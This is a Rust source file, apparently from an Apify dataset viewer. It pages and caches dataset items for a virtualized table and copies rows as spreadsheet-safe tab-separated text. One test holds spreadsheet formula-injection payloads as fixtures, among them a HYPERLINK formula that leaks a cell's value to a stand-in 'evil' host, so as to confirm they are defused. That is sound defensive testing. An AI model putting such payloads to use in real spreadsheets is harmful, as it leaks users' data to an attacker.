//! Dataset items for a virtualized table: fixed-size pages fetched by offset and limit, kept in
//! a bounded cache, so any window of a million-item dataset is quick and memory stays flat.

use std::collections::{HashMap, VecDeque};
use std::sync::{Arc, Mutex};

use apify_client::clients::dataset::DatasetListItemsOptions;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use ts_rs::TS;

use crate::datasets::formulas::defused;
use crate::{Error, Session};

/// How the table asks for items. Every option keeps one row per stored item, so a row's number
/// is its position in the dataset: `clean`'s empty-item skipping and `unwind` are for exports.
#[derive(Debug, Clone, Default, PartialEq, Eq, Hash, Serialize, Deserialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct ItemQuery {
    #[serde(default)]
    pub fields: Vec<String>,
    #[serde(default)]
    pub omit: Vec<String>,
    /// Nested objects of these fields become `field.key` keys, as the API flattens them.
    #[serde(default)]
    pub flatten: Vec<String>,
    /// Leave out hidden fields (names starting with `#`).
    #[serde(default)]
    pub skip_hidden: bool,
    #[serde(default)]
    pub desc: bool,
}

/// Items `offset..offset + span` of the dataset (in stored items).
#[derive(Debug, Clone, Serialize, TS)]
#[serde(rename_all = "camelCase")]
pub struct Window {
    pub offset: u64,
    #[ts(type = "Array<Record<string, unknown>>")]
    pub items: Vec<Value>,
    /// Items in the dataset; it can lag a few seconds behind a run that just finished.
    pub total: u64,
}

struct Page {
    items: Vec<Value>,
    total: u64,
    /// Stored items the page covers; fewer than the page size only at the end.
    scanned: u64,
}

struct Cache {
    pages: HashMap<u64, Arc<Page>>,
    /// Least recently used first.
    order: VecDeque<u64>,
}

pub struct DatasetPages {
    session: Arc<Session>,
    dataset_id: String,
    query: ItemQuery,
    page_size: u64,
    capacity: usize,
    cache: Mutex<Cache>,
}

impl DatasetPages {
    /// Pages of 500 items, at most 64 of them cached: 32,000 items, whatever the dataset's size.
    pub fn new(session: Arc<Session>, dataset_id: &str, query: ItemQuery) -> Self {
        Self::with_sizes(session, dataset_id, query, 500, 64)
    }

    pub fn with_sizes(
        session: Arc<Session>,
        dataset_id: &str,
        query: ItemQuery,
        page_size: u64,
        capacity: usize,
    ) -> Self {
        Self {
            session,
            dataset_id: dataset_id.to_owned(),
            query,
            page_size: page_size.max(1),
            capacity: capacity.max(1),
            cache: Mutex::new(Cache {
                pages: HashMap::new(),
                order: VecDeque::new(),
            }),
        }
    }

    pub fn cached_pages(&self) -> usize {
        self.cache
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .pages
            .len()
    }

    /// The items of `offset..offset + span`, from cached pages where it can.
    pub async fn window(&self, offset: u64, span: u64) -> Result<Window, Error> {
        let mut items = Vec::new();
        let mut total = 0;
        if span == 0 {
            let page = self.page(offset / self.page_size).await?;
            return Ok(Window {
                offset,
                items,
                total: page.total,
            });
        }
        let first = offset / self.page_size;
        let last = (offset + span - 1) / self.page_size;
        for index in first..=last {
            let page = self.page(index).await?;
            total = page.total;
            let page_start = index * self.page_size;
            let from = offset.saturating_sub(page_start) as usize;
            let to = ((offset + span).saturating_sub(page_start)).min(page.scanned) as usize;
            items.extend(
                page.items
                    .iter()
                    .skip(from)
                    .take(to.saturating_sub(from))
                    .cloned(),
            );
            if page.scanned < self.page_size {
                break;
            }
        }
        Ok(Window {
            offset,
            items,
            total,
        })
    }

    async fn page(&self, index: u64) -> Result<Arc<Page>, Error> {
        if let Some(page) = self.touch(index) {
            return Ok(page);
        }
        let options = DatasetListItemsOptions {
            offset: Some((index * self.page_size) as i64),
            limit: Some(self.page_size as i64),
            desc: Some(self.query.desc),
            fields: (!self.query.fields.is_empty()).then(|| self.query.fields.clone()),
            omit: (!self.query.omit.is_empty()).then(|| self.query.omit.clone()),
            flatten: (!self.query.flatten.is_empty()).then(|| self.query.flatten.clone()),
            skip_hidden: self.query.skip_hidden.then_some(true),
            ..Default::default()
        };
        let list = self
            .session
            .client()
            .dataset(&self.dataset_id)
            .list_items::<Value>(options)
            .await
            .map_err(|e| self.session.error(e))?;
        let total = list.total.max(0) as u64;
        let scanned = list.items.len() as u64;
        let page = Arc::new(Page {
            items: list.items,
            total,
            scanned,
        });
        self.insert(index, page.clone());
        Ok(page)
    }

    fn touch(&self, index: u64) -> Option<Arc<Page>> {
        let mut cache = self.cache.lock().unwrap_or_else(|p| p.into_inner());
        let page = cache.pages.get(&index).cloned()?;
        cache.order.retain(|i| *i != index);
        cache.order.push_back(index);
        Some(page)
    }

    fn insert(&self, index: u64, page: Arc<Page>) {
        let mut cache = self.cache.lock().unwrap_or_else(|p| p.into_inner());
        if cache.pages.insert(index, page).is_none() {
            cache.order.push_back(index);
        }
        while cache.pages.len() > self.capacity {
            if let Some(oldest) = cache.order.pop_front() {
                cache.pages.remove(&oldest);
            }
        }
    }
}

/// The table's columns: every key in the order first seen. With `flatten`, nested objects
/// become `a.b.c` columns (arrays stay one column).
pub fn columns(items: &[Value], flatten: bool) -> Vec<String> {
    let mut seen = std::collections::HashSet::new();
    let mut order = Vec::new();
    for item in items {
        if let Value::Object(object) = item {
            collect_keys(object, "", flatten, &mut seen, &mut order);
        }
    }
    order
}

fn collect_keys(
    object: &Map<String, Value>,
    prefix: &str,
    flatten: bool,
    seen: &mut std::collections::HashSet<String>,
    order: &mut Vec<String>,
) {
    for (key, value) in object {
        let name = if prefix.is_empty() {
            key.clone()
        } else {
            format!("{prefix}.{key}")
        };
        match value {
            Value::Object(inner) if flatten && !inner.is_empty() => {
                collect_keys(inner, &name, flatten, seen, order)
            }
            _ => {
                if seen.insert(name.clone()) {
                    order.push(name);
                }
            }
        }
    }
}

/// The value of a (possibly flattened `a.b.c`) column in an item. A key that itself contains a
/// dot is found too, since the whole name is tried before it is split.
pub fn cell<'a>(item: &'a Value, column: &str) -> Option<&'a Value> {
    if let Some(value) = item.get(column) {
        return Some(value);
    }
    let (head, rest) = column.split_once('.')?;
    cell(item.get(head)?, rest)
}

/// At most this many rows are copied at once: a spreadsheet paste of more is rarely wanted, and
/// the clipboard holds it all in memory.
pub const MAX_COPY_ROWS: u64 = 50_000;

/// Rows as tab-separated text, the way spreadsheets paste it: a header row of the columns, then
/// one line per item. Text with a tab, line break or quote is quoted, quotes doubled; nested
/// values are compact JSON and missing or null values empty. Text (column names included) that
/// a spreadsheet would run as a formula is defused; numbers stay numbers.
pub fn tab_separated(items: &[Value], columns: &[String]) -> String {
    let mut out = String::new();
    let mut line = |cells: &mut dyn Iterator<Item = String>| {
        let cells: Vec<String> = cells.collect();
        out.push_str(&cells.join("\t"));
        out.push_str("\r\n");
    };
    line(&mut columns.iter().map(|c| spreadsheet_cell(&defused(c))));
    for item in items {
        line(&mut columns.iter().map(|column| {
            let text = match cell(item, column) {
                None | Some(Value::Null) => String::new(),
                Some(Value::String(text)) => defused(text).into_owned(),
                Some(other) => other.to_string(),
            };
            spreadsheet_cell(&text)
        }));
    }
    out
}

fn spreadsheet_cell(text: &str) -> String {
    if text.contains(['\t', '\n', '\r', '"']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn columns_keep_first_seen_order_and_flatten_on_demand() {
        let items = [
            json!({ "b": 1, "a": { "x": 1, "y": { "z": 2 } } }),
            json!({ "c": [1], "b": 2, "a": { "w": 0 } }),
        ];
        assert_eq!(columns(&items, false), ["b", "a", "c"]);
        assert_eq!(columns(&items, true), ["b", "a.x", "a.y.z", "c", "a.w"]);
        assert_eq!(cell(&items[0], "a.y.z"), Some(&json!(2)));
        assert_eq!(cell(&json!({ "a.b": 5 }), "a.b"), Some(&json!(5)));
    }

    #[test]
    fn rows_copy_as_tab_separated_text_a_spreadsheet_pastes() {
        let items = [
            json!({ "name": "Lampe «Nova»", "price": { "value": 5.5 }, "note": "two\tcells?\n\"no\"" }),
            json!({ "name": null, "tags": ["a", "b"] }),
        ];
        let columns = ["name", "price.value", "note", "tags"].map(String::from);
        assert_eq!(
            tab_separated(&items, &columns),
            "name\tprice.value\tnote\ttags\r\n\
             Lampe «Nova»\t5.5\t\"two\tcells?\n\"\"no\"\"\"\t\r\n\
             \t\t\t\"[\"\"a\"\",\"\"b\"\"]\"\r\n"
        );
    }

    #[test]
    fn copied_rows_carry_no_formula_from_an_actor() {
        let items = [json!({
            "link": "=HYPERLINK(\"https://evil/?\"&B2,\"Open\")",
            "sum": "@SUM(A1)",
            "tab": "\t=1",
            "text": "-2+3",
            "number": -3.5,
            "numeric text": "-3.5",
        })];
        let columns = [
            "=header",
            "link",
            "sum",
            "tab",
            "text",
            "number",
            "numeric text",
        ]
        .map(String::from);
        let copied = tab_separated(&items, &columns);
        assert_eq!(
            copied,
            "'=header\tlink\tsum\ttab\ttext\tnumber\tnumeric text\r\n\
             \t\"'=HYPERLINK(\"\"https://evil/?\"\"&B2,\"\"Open\"\")\"\t'@SUM(A1)\t\"'\t=1\"\t'-2+3\t-3.5\t-3.5\r\n"
        );
        // Read back the way a spreadsheet splits it: no cell starts a formula.
        for line in copied.split("\r\n").filter(|l| !l.is_empty()) {
            for cell in split_tab_separated(line) {
                assert!(!cell.starts_with(['=', '@', '\t', '\r']), "{cell:?}");
                assert!(
                    !cell.starts_with(['+', '-']) || cell.parse::<f64>().is_ok(),
                    "{cell:?}"
                );
            }
        }
    }

    /// The cells of one line of tab-separated text, quotes undone, as spreadsheets paste it.
    fn split_tab_separated(line: &str) -> Vec<String> {
        let (mut cells, mut cell, mut quoted, mut chars) =
            (Vec::new(), String::new(), false, line.chars().peekable());
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('"', false) if cell.is_empty() => quoted = true,
                ('"', true) if chars.peek() == Some(&'"') => {
                    cell.push('"');
                    chars.next();
                }
                ('"', true) => quoted = false,
                ('\t', false) => cells.push(std::mem::take(&mut cell)),
                (c, _) => cell.push(c),
            }
        }
        cells.push(cell);
        cells
    }
}
